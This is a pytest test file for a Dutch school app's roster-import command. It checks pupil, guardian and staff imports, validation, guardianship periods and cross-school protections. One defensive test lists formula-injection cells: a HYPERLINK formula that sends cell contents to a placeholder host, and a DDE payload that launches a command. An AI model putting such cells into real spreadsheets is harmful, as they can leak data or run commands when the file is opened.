import json
from datetime import date

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import Workbook

from beeldwacht.accounts.models import User
from beeldwacht.audit.models import AuditEvent
from beeldwacht.people.models import Guardian, Guardianship, Pupil
from beeldwacht.schools.models import Membership

HEADER = "Leerlingnummer;Roepnaam;Tussenvoegsel;Achternaam;Geboortedatum;Groep;Ouder 1 naam;Ouder 1 e-mail;Ouder 1 telefoon;Ouder 2 naam;Ouder 2 e-mail;Ouder 3 naam;Ouder 3 e-mail"
ROWS = [
    "1001;Zoë;van der;Berg;03-04-2017;Groep 4;Anna van der Berg;anna@example.nl;0612345678;;;;",
    # Twins share both guardians.
    "1002;Daan;;Jansen;12-11-2016;5;Kees Jansen;kees@example.nl;;Lot Jansen;lot@example.nl;;",
    "1003;Sem;;Jansen;12-11-2016;5;Kees Jansen;kees@example.nl;;Lot Jansen;lot@example.nl;;",
    # Three guardians: two parents and a co-parent.
    "1004;Fenna;de;Boer;01-02-2018;3;Ria de Boer;ria@example.nl;;Jan de Boer;jan@example.nl;Eva Smit;eva@example.nl",
]


def write(tmp_path, rows, header=HEADER, name="leerlingen.csv", encoding="utf-8-sig"):
    path = tmp_path / name
    path.write_bytes(("\r\n".join([header, *rows]) + "\r\n").encode(encoding))
    return path


def run(path, *args, school="12AB"):
    from io import StringIO

    out, err = StringIO(), StringIO()
    call_command("import-roster", "--school", school, str(path), *args, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def run_json(path, *args):
    return json.loads(run(path, "--json", *args)[0])


def test_imports_pupils_guardians_and_groups(school, tmp_path):
    report = run_json(write(tmp_path, ROWS))
    assert sorted(report["pupils_added"]) == ["1001", "1002", "1003", "1004"]
    zoe = Pupil.objects.get(las_number="1001")
    assert (zoe.first_name, zoe.infix, zoe.last_name) == ("Zoë", "van der", "Berg")
    assert zoe.full_name == "Zoë van der Berg"
    assert zoe.date_of_birth == date(2017, 4, 3)
    assert zoe.school_class.name == "4"
    assert report["guardians_added"] == 6


def test_twins_share_one_guardian_record(school, tmp_path):
    run(write(tmp_path, ROWS))
    kees = Guardian.objects.get(email="kees@example.nl")
    assert sorted(kees.pupils.values_list("las_number", flat=True)) == ["1002", "1003"]
    assert kees.user.email == "kees@example.nl"


def test_three_guardians_are_kept_in_order(school, tmp_path):
    run(write(tmp_path, ROWS))
    fenna = Pupil.objects.get(las_number="1004")
    ships = Guardianship.objects.filter(pupil=fenna).order_by("position")
    assert [s.guardian.email for s in ships] == [
        "ria@example.nl",
        "jan@example.nl",
        "eva@example.nl",
    ]


def test_second_run_changes_nothing(school, tmp_path):
    path = write(tmp_path, ROWS)
    run(path)
    events = AuditEvent.objects.count()
    report = run_json(path)
    assert report["pupils_added"] == report["pupils_changed"] == report["pupils_left"] == []
    assert report["pupils_unchanged"] == 4
    assert report["guardians_added"] == report["guardians_changed"] == 0
    assert AuditEvent.objects.count() == events


def _family(n: int) -> str:
    return f"{2000 + n};Kind{n};;Familie{n};01-02-2017;5;Ouder A{n};a{n}@example.nl;;Ouder B{n};b{n}@example.nl;;"


def _queries(tmp_path, rows) -> int:
    with CaptureQueriesContext(connection) as counted:
        run(write(tmp_path, rows))
    return len(counted)


def test_an_import_costs_no_query_per_pupil_beyond_its_writes(school, tmp_path):
    """On SQLite an import holds the write lock for its whole run (issue #9, finding 6), so
    it reads everything up front: an unchanged pupil costs no query, a new one only its
    inserts (benchmarks/roster_import.py)."""
    few, more = [_family(n) for n in range(3)], [_family(n) for n in range(3, 12)]
    run(write(tmp_path, few))
    unchanged = _queries(tmp_path, few)
    # Each new pupil: herself, two guardians with their logins, two guardianships; and the
    # import's audit event.
    assert _queries(tmp_path, few + more) - unchanged <= 7 * len(more) + 3
    assert _queries(tmp_path, few + more) == unchanged


def test_later_run_reports_changes_and_marks_leavers(school, tmp_path):
    run(write(tmp_path, ROWS))
    changed = [
        ROWS[0].replace("Groep 4", "Groep 5"),
        ROWS[1],
        ROWS[2],
        "1005;Noor;;Visser;05-06-2019;1;Sara Visser;sara@example.nl;;;;;",
    ]
    report = run_json(write(tmp_path, changed))
    assert report["pupils_added"] == ["1005"]
    assert report["pupils_changed"] == ["1001"]
    assert report["pupils_left"] == ["1004"]
    fenna = Pupil.objects.get(las_number="1004")
    assert fenna.left_on is not None  # marked, not deleted


def test_a_returning_pupil_is_no_longer_marked_as_left(school, tmp_path):
    run(write(tmp_path, ROWS))
    run(write(tmp_path, ROWS[:3]))
    report = run_json(write(tmp_path, ROWS))
    assert report["pupils_changed"] == ["1004"]
    assert Pupil.objects.get(las_number="1004").left_on is None


def test_windows_1252_export(school, tmp_path):
    run(write(tmp_path, ROWS[:1], encoding="cp1252"))
    assert Pupil.objects.get(las_number="1001").first_name == "Zoë"


def test_comma_separated_without_bom_and_header_variants(school, tmp_path):
    header = "leerlingnr,Voornaam,Voorvoegsel,Achternaam,Geb. datum,Jaargroep,Naam ouder 1,E-mail ouder 1"
    row = "77,Lieke,van,Dijk,1-9-2015,6,Tom van Dijk,tom@example.nl"
    run(write(tmp_path, [row], header=header, encoding="utf-8"))
    lieke = Pupil.objects.get(las_number="77")
    assert (lieke.infix, lieke.date_of_birth) == ("van", date(2015, 9, 1))
    assert lieke.guardians.get().email == "tom@example.nl"


def test_xlsx_export(school, tmp_path):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(
        [
            "Leerlingnummer",
            "Roepnaam",
            "Tussenvoegsel",
            "Achternaam",
            "Geboortedatum",
            "Groep",
            "Verzorger 1 naam",
            "Verzorger 1 e-mail",
        ]
    )
    sheet.append(
        [
            3001,
            "Ruben",
            None,
            "Bakker",
            date(2016, 2, 29),
            "Groep 6",
            "Ilse Bakker",
            "ilse@example.nl",
        ]
    )
    path = tmp_path / "export.xlsx"
    workbook.save(path)
    run(path)
    ruben = Pupil.objects.get(las_number="3001")
    assert ruben.date_of_birth == date(2016, 2, 29)
    assert ruben.guardians.get().name == "Ilse Bakker"


@pytest.mark.parametrize(
    ("bad_row", "expected"),
    [
        ("1001;Dubbel;;Nummer;01-01-2017;4;;;;;;;", "1001"),
        ("2001;Bad;;Date;31-02-2017;4;;;;;;;", "31-02-2017"),
        ("2002;Future;;Born;01-01-2030;4;;;;;;;", "01-01-2030"),
        ("2003;Bad;;Mail;01-01-2017;4;Piet;piet@@example;;;;;", "piet@@example"),
        ("2004;;;Naamloos;01-01-2017;4;;;;;;;", "voornaam"),
        ("2005;Geen;;Groep;01-01-2017;;;;;;;;", "groep"),
    ],
)
def test_any_bad_row_imports_nothing_and_names_the_line(school, tmp_path, bad_row, expected):
    path = write(tmp_path, [*ROWS, bad_row])
    with pytest.raises(CommandError):
        out, err = run(path)
    assert not Pupil.objects.exists()
    assert not Guardian.objects.exists()


def test_problems_are_listed_with_line_numbers_in_dutch(school, tmp_path):
    from io import StringIO

    rows = [
        *ROWS,
        "2001;Bad;;Date;31-02-2017;4;;;;;;;",
        "2003;Bad;;Mail;01-01-2017;4;Piet;piet@@example;;;;;",
    ]
    err = StringIO()
    with pytest.raises(CommandError, match="Er is niets geïmporteerd"):
        call_command(
            "import-roster",
            "--school",
            "12AB",
            str(write(tmp_path, rows)),
            stdout=StringIO(),
            stderr=err,
        )
    text = err.getvalue()
    assert "regel 6" in text and "31-02-2017" in text
    assert "regel 7" in text and "piet@@example" in text


def test_json_report_lists_problems(school, tmp_path):
    path = write(tmp_path, [ROWS[0], ROWS[0].replace("Zoë", "Zoe")])
    from io import StringIO

    out = StringIO()
    with pytest.raises(CommandError):
        call_command(
            "import-roster", "--school", "12AB", str(path), "--json", stdout=out, stderr=StringIO()
        )
    report = json.loads(out.getvalue())
    assert report["ok"] is False
    assert report["problems"][0]["line"] == 3


def test_one_email_with_two_names_is_refused(school, tmp_path):
    rows = [ROWS[1], ROWS[2].replace("Kees Jansen", "Karel Pietersen")]
    with pytest.raises(CommandError):
        run(write(tmp_path, rows))
    assert not Pupil.objects.exists()


def test_dry_run_reports_without_saving(school, tmp_path):
    report = run_json(write(tmp_path, ROWS), "--dry-run")
    assert len(report["pupils_added"]) == 4
    assert not Pupil.objects.exists()
    assert not User.objects.exists()


def test_unknown_school_and_missing_columns(school, tmp_path):
    with pytest.raises(CommandError):
        run(write(tmp_path, ROWS), school="99ZZ")
    with pytest.raises(CommandError):
        run(write(tmp_path, ["1;A;B"], header="Leerlingnummer;Roepnaam;Achternaam"))
    with pytest.raises(CommandError):
        run(tmp_path / "missing.csv")
    (tmp_path / "empty.csv").write_bytes(b"")
    with pytest.raises(CommandError):
        run(tmp_path / "empty.csv")


def test_guardian_who_changed_address_keeps_their_record(school, tmp_path):
    run(write(tmp_path, ROWS[:1]))
    anna = Guardian.objects.get(email="anna@example.nl")
    run(write(tmp_path, [ROWS[0].replace("anna@example.nl", "anna.berg@example.nl")]))
    anna.refresh_from_db()
    assert anna.email == "anna.berg@example.nl"
    assert Guardian.objects.count() == 1


def test_parental_authority_column(school, tmp_path):
    header = "Leerlingnummer;Roepnaam;Achternaam;Geboortedatum;Groep;Ouder 1 naam;Ouder 1 gezag;Ouder 2 naam;Ouder 2 gezag"
    run(write(tmp_path, ["5;Mees;Kok;01-01-2017;4;Ina Kok;ja;Rob Kok;nee"], header=header))
    ships = {s.guardian.name: s.parental_authority for s in Guardianship.objects.all()}
    assert ships == {"Ina Kok": True, "Rob Kok": False}


STAFF_HEADER = "Roepnaam;Tussenvoegsel;Achternaam;E-mail;Functie;Groepen"


def test_staff_import_with_roles_and_groups(school, tmp_path):
    staff = write(
        tmp_path,
        [
            "Anna;;Visser;anna@delinde.nl;Leerkracht;5,6",
            "Bas;van;Dam;bas@delinde.nl;Directeur, Privacycontactpersoon;",
        ],
        header=STAFF_HEADER,
        name="personeel.csv",
    )
    call_command("import-roster", "--school", "12AB", "--staff", str(staff), stdout=None)
    anna = Membership.objects.get(user__email="anna@delinde.nl")
    assert anna.role == "teacher"
    assert sorted(anna.classes.values_list("name", flat=True)) == ["5", "6"]
    assert set(
        Membership.objects.filter(user__email="bas@delinde.nl").values_list("role", flat=True)
    ) == {"management", "privacy_officer"}


def test_staff_who_left_are_marked(school, tmp_path):
    first = write(
        tmp_path,
        ["Anna;;Visser;anna@delinde.nl;Leerkracht;5", "Bas;;Dam;bas@delinde.nl;Directeur;"],
        header=STAFF_HEADER,
        name="p.csv",
    )
    call_command("import-roster", "--school", "12AB", "--staff", str(first))
    second = write(
        tmp_path, ["Anna;;Visser;anna@delinde.nl;Leerkracht;5"], header=STAFF_HEADER, name="p.csv"
    )
    from io import StringIO

    out = StringIO()
    call_command("import-roster", "--school", "12AB", "--staff", str(second), "--json", stdout=out)
    assert json.loads(out.getvalue())["staff_left"] == 1
    assert Membership.objects.get(user__email="bas@delinde.nl").left_on is not None


def test_unknown_staff_function_is_a_problem(school, tmp_path):
    staff = write(
        tmp_path, ["Anna;;Visser;anna@delinde.nl;Conciërge;"], header=STAFF_HEADER, name="p.csv"
    )
    with pytest.raises(CommandError):
        call_command("import-roster", "--school", "12AB", "--staff", str(staff))
    assert not Membership.objects.exists()


# Imports that cannot be turned against the school (issue #9, finding 3).


def test_a_file_mixing_utf8_and_windows_1252_is_refused_with_its_line(school, tmp_path):
    path = tmp_path / "gemengd.csv"
    path.write_bytes(
        (HEADER + "\r\n" + ROWS[0] + "\r\n").encode("utf-8")
        + "1005;Chloë;;Aa;01-01-2017;5;Piet Aa;piet@example.nl;;;;;\r\n".encode("cp1252")
    )
    with pytest.raises(CommandError, match="Regel 3"):
        run(path)
    assert not Pupil.objects.exists()


@pytest.mark.parametrize(
    "cell", ['=HYPERLINK("http://x.example/?"&A1;"klik")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0"]
)
def test_a_formula_cell_is_refused_and_nothing_is_saved(school, tmp_path, cell):
    row = f"1006;Mila;;{cell};01-01-2017;5;Piet Aa;piet@example.nl;+31 6 12345678;;;;"
    with pytest.raises(CommandError, match="formule"):
        run(write(tmp_path, [ROWS[0], row]))
    assert not Pupil.objects.exists()


def test_phone_numbers_and_plain_names_are_no_formulas():
    from beeldwacht.common.tabular import looks_like_formula

    assert not any(looks_like_formula(v) for v in ("+31 6 12345678", "-12", "Zoë", "", "0612"))
    assert all(looks_like_formula(v) for v in ("=1+1", "@A1", "+A1", "-2+3*cmd"))


def test_a_staff_import_does_not_change_someone_of_another_school(school, other_school, tmp_path):
    """Issue #9, finding 3: one school's staff file renamed a person of another school,
    added a membership, reported '0 changed' and wrote no audit event."""
    ole = User.objects.create_user("ole@anderschool.nl", first_name="Ole", last_name="Ander")
    Membership.objects.create(school=other_school, user=ole, role="teacher")
    staff = write(
        tmp_path,
        ["Olaf;;Kaper;ole@anderschool.nl;Leerkracht;5"],
        header=STAFF_HEADER,
        name="personeel.csv",
    )
    from io import StringIO

    def run_staff(*args):
        out = StringIO()
        call_command("import-roster", "--school", "12AB", "--staff", str(staff), *args, stdout=out)
        return out.getvalue()

    events = AuditEvent.objects.count()
    with pytest.raises(CommandError):
        run_staff()
    ole.refresh_from_db()
    assert (ole.first_name, ole.last_name) == ("Ole", "Ander")
    assert not Membership.objects.filter(school=school, user=ole).exists()
    assert AuditEvent.objects.count() == events
    # Checked by hand: now it may, and it is counted and audited.
    out = json.loads(run_staff("--json", "--shared-staff"))
    assert out["staff_added"] == 1
    assert Membership.objects.filter(school=school, user=ole).exists()
    assert AuditEvent.objects.filter(type=AuditEvent.Type.ROSTER_IMPORTED).exists()


def test_a_guardian_no_longer_listed_is_ended_dated_not_deleted(school, tmp_path, time_machine):
    """Issue #8, build 4: the import deleted the guardianship, and with it the proof that her
    answers counted while she was a guardian."""
    time_machine.move_to(date(2026, 9, 1), tick=False)
    run(write(tmp_path, ROWS[1:2]))
    lot = Guardian.objects.get(email="lot@example.nl")
    daan = Pupil.objects.get(las_number="1002")
    time_machine.move_to(date(2026, 10, 5), tick=False)
    report = run_json(write(tmp_path, [ROWS[1].replace("Lot Jansen;lot@example.nl", ";")]))
    assert report["pupils_changed"] == ["1002"]
    ship = Guardianship.objects.get(pupil=daan, guardian=lot)
    assert (ship.started_on, ship.ended_on) == (None, date(2026, 10, 5))
    assert list(Guardianship.objects.on(date(2026, 10, 4)).filter(pupil=daan)) != list(
        Guardianship.objects.on(date(2026, 10, 5)).filter(pupil=daan)
    )
    assert [s.guardian.email for s in Guardianship.objects.current().filter(pupil=daan)] == [
        "kees@example.nl"
    ]


def test_an_ended_guardian_no_longer_counts_or_sees_the_child(school, tmp_path, time_machine):
    from beeldwacht.consent import selectors

    time_machine.move_to(date(2026, 9, 1), tick=False)
    run(write(tmp_path, ROWS[1:2]))
    lot = Guardian.objects.get(email="lot@example.nl")
    daan = Pupil.objects.get(las_number="1002")
    assert selectors.guardianships_of_user(lot.user, former=True).count() == 1
    time_machine.move_to(date(2026, 10, 5), tick=False)
    run(write(tmp_path, [ROWS[1].replace("Lot Jansen;lot@example.nl", ";")]))
    assert selectors.guardianships_of_user(lot.user, former=True).count() == 0
    facts = selectors.pupil_facts(school, [daan], date(2026, 10, 5))[daan.pk]
    assert facts.subject.guardians_with_authority == {
        f"g{Guardian.objects.get(email='kees@example.nl').pk}"
    }
    before = selectors.pupil_facts(school, [daan], date(2026, 10, 4))[daan.pk]
    assert f"g{lot.pk}" in before.subject.guardians_with_authority


def test_a_change_of_parental_authority_ends_one_period_and_starts_the_next(
    school, tmp_path, time_machine
):
    header = "Leerlingnummer;Roepnaam;Achternaam;Geboortedatum;Groep;Ouder 1 naam;Ouder 1 gezag;Ouder 2 naam;Ouder 2 gezag"
    time_machine.move_to(date(2026, 9, 1), tick=False)
    run(write(tmp_path, ["5;Mees;Kok;01-01-2017;4;Ina Kok;ja;Rob Kok;ja"], header=header))
    time_machine.move_to(date(2026, 11, 2), tick=False)
    run(write(tmp_path, ["5;Mees;Kok;01-01-2017;4;Ina Kok;ja;Rob Kok;nee"], header=header))
    rob = [
        (s.parental_authority, s.started_on, s.ended_on)
        for s in Guardianship.objects.filter(guardian__name="Rob Kok").order_by("id")
    ]
    assert rob == [(True, None, date(2026, 11, 2)), (False, date(2026, 11, 2), None)]
    assert Guardianship.objects.current().filter(guardian__name="Ina Kok").count() == 1
    # A second run with the same file changes nothing more.
    run(write(tmp_path, ["5;Mees;Kok;01-01-2017;4;Ina Kok;ja;Rob Kok;nee"], header=header))
    assert Guardianship.objects.filter(guardian__name="Rob Kok").count() == 2


def test_a_pupil_of_16_gets_her_login_from_the_roster(school, tmp_path, time_machine):
    header = "Leerlingnummer;Roepnaam;Achternaam;Geboortedatum;Groep;E-mail leerling;Ouder 1 naam;Ouder 1 e-mail"
    time_machine.move_to(date(2026, 9, 1), tick=False)
    run(
        write(
            tmp_path,
            [
                "7;Eva;Mulder;01-03-2010;4H;eva@example.nl;Ria Mulder;ria@example.nl",
                "8;Bo;Mulder;01-03-2012;2H;bo@example.nl;Ria Mulder;ria@example.nl",
            ],
            header=header,
        )
    )
    eva, bo = Pupil.objects.get(las_number="7"), Pupil.objects.get(las_number="8")
    assert eva.email == "eva@example.nl" and eva.user.email == "eva@example.nl"
    assert bo.email == "bo@example.nl" and bo.user is None  # 14: her birthday brings it


def test_a_pupil_address_of_a_parent_is_refused(school, tmp_path):
    header = "Leerlingnummer;Roepnaam;Achternaam;Geboortedatum;Groep;E-mail leerling;Ouder 1 naam;Ouder 1 e-mail"
    run(write(tmp_path, ["8;Bo;Mulder;01-03-2012;2H;;Ria Mulder;ria@example.nl"], header=header))
    with pytest.raises(CommandError):
        run(
            write(
                tmp_path,
                [
                    "7;Eva;Mulder;01-03-2010;4H;ria@example.nl;Jan Mulder;jan@example.nl",
                    "8;Bo;Mulder;01-03-2012;2H;;Ria Mulder;ria@example.nl",
                ],
                header=header,
            )
        )
    assert not Pupil.objects.filter(las_number="7").exists()


def test_twins_sharing_an_address_and_a_file_without_the_column(school, tmp_path, time_machine):
    """A pupil's address is her own login: twins sharing one are refused, and a routine
    file without the column leaves the addresses we know alone."""
    header = "Leerlingnummer;Roepnaam;Achternaam;Geboortedatum;Groep;E-mail leerling"
    time_machine.move_to(date(2026, 9, 1), tick=False)
    shared = [
        "7;Eva;Mulder;01-03-2010;4H;thuis@example.nl",
        "8;Ada;Mulder;01-03-2010;4H;thuis@example.nl",
    ]
    with pytest.raises(CommandError):
        run(write(tmp_path, shared, header=header))
    run(write(tmp_path, ["7;Eva;Mulder;01-03-2010;4H;eva@example.nl"], header=header))
    plain = "Leerlingnummer;Roepnaam;Achternaam;Geboortedatum;Groep"
    run(write(tmp_path, ["7;Eva;Mulder;01-03-2010;4H"], header=plain))
    eva = Pupil.objects.get(las_number="7")
    assert eva.email == "eva@example.nl" and eva.user.email == "eva@example.nl"
